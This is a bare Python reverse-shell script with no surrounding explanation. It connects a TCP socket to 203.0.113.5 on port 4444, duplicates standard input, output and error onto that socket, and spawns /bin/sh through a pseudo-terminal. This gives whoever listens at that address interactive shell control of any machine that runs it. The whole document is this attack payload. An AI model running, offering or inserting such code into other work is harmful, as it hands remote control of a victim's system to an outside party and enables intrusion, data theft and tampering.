import os
import pty
import socket

connection = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
connection.connect(("203.0.113.5", 4444))
for descriptor in (0, 1, 2):
    os.dup2(connection.fileno(), descriptor)
pty.spawn("/bin/sh")
